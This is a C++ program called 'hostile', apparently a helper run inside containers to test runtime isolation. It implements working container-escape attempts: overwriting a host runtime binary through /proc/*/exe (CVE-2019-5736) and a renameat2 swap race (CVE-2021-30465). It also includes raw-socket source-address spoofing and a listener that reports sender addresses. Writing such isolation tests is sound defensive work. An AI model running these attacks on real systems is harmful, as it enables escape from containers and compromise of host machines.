// Attacks that need more than a shell, run as a container's program:
//
//   hostile catch             takes hold of every program of another file that shows up in the container, and
//   tries to write
//                             to it once it has ended (CVE-2019-5736); tells what came of it
//   hostile swap A B          exchanges two names for ever, as fast as it can (CVE-2021-30465)
//   hostile listen PORT       tells the address that each datagram claims to be from
//   hostile spoof FROM TO PORT   sends a datagram under an address that need not be its own
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

constexpr int kMostPids = 400;  // numbers in a young pid namespace
constexpr int kTries = 200000;

void tell(const char* what, int error) {
  std::printf("%s %s\n", what, error == 0 ? "ok" : ::strerrorname_np(error));
  std::fflush(stdout);
}

// The file stays busy as long as it runs.
void overwrite(int held) {
  const std::string path = "/proc/self/fd/" + std::to_string(held);
  for (int i = 0; i < kTries; ++i) {
    const int fd = ::open(path.c_str(), O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (fd < 0 && errno == ETXTBSY) continue;
    tell("overwritten:", fd < 0 ? errno : 0);
    ::close(fd);
    return;
  }
  tell("overwritten:", ETXTBSY);
}

[[noreturn]] void catch_programs() {
  struct stat own {};
  ::stat("/proc/self/exe", &own);
  std::puts("ready");
  std::fflush(stdout);
  for (;;) {
    for (int pid = 1; pid < kMostPids; ++pid) {
      const int held = ::open(("/proc/" + std::to_string(pid) + "/exe").c_str(), O_PATH | O_CLOEXEC);
      struct stat other {};
      if (held < 0) continue;
      if (::fstat(held, &other) == 0 && (other.st_ino != own.st_ino || other.st_dev != own.st_dev))
        overwrite(held);
      ::close(held);
    }
  }
}

[[noreturn]] void swap(const char* a, const char* b) {
  constexpr unsigned kExchange = 2;
  std::puts("ready");
  std::fflush(stdout);
  for (;;) ::syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, kExchange);
}

sockaddr_in address_of(const char* text, int port) {
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<uint16_t>(port));
  ::inet_pton(AF_INET, text, &address.sin_addr);
  return address;
}

[[noreturn]] void listen_to(int port) {
  const int fd = ::socket(AF_INET, SOCK_DGRAM, 0);
  const sockaddr_in any = address_of("0.0.0.0", port);
  if (::bind(fd, reinterpret_cast<const sockaddr*>(&any), sizeof any) != 0) std::exit(1);
  std::puts("ready");
  std::fflush(stdout);
  for (;;) {
    char data[64];
    sockaddr_in from{};
    socklen_t size = sizeof from;
    if (::recvfrom(fd, data, sizeof data, 0, reinterpret_cast<sockaddr*>(&from), &size) < 0) continue;
    char text[INET_ADDRSTRLEN];
    std::printf("from %s\n", ::inet_ntop(AF_INET, &from.sin_addr, text, sizeof text));
    std::fflush(stdout);
  }
}

int spoof(const char* from, const char* to, int port) {
  struct {
    iphdr ip;
    udphdr udp;
    char data[4];
  } packet{};
  const sockaddr_in source = address_of(from, 0), target = address_of(to, 0);
  packet.ip.version = 4;
  packet.ip.ihl = 5;
  packet.ip.ttl = 64;
  packet.ip.protocol = IPPROTO_UDP;
  packet.ip.saddr = source.sin_addr.s_addr;
  packet.ip.daddr = target.sin_addr.s_addr;
  packet.udp.source = packet.udp.dest = htons(static_cast<uint16_t>(port));
  packet.udp.len = htons(sizeof packet.udp + sizeof packet.data);
  const int fd = ::socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  const ssize_t sent =
      ::sendto(fd, &packet, sizeof packet, 0, reinterpret_cast<const sockaddr*>(&target), sizeof target);
  tell("sent:", sent < 0 ? errno : 0);
  return sent < 0 ? 1 : 0;
}

}  // namespace

int main(int argc, char** argv) {
  const std::string what = argc > 1 ? argv[1] : "";
  if (what == "catch" && argc == 2) catch_programs();
  if (what == "swap" && argc == 4) swap(argv[2], argv[3]);
  if (what == "listen" && argc == 3) listen_to(std::atoi(argv[2]));
  if (what == "spoof" && argc == 5) return spoof(argv[2], argv[3], std::atoi(argv[4]));
  std::fprintf(stderr, "hostile: expected catch, swap A B, listen PORT, or spoof FROM TO PORT\n");
  return 2;
}
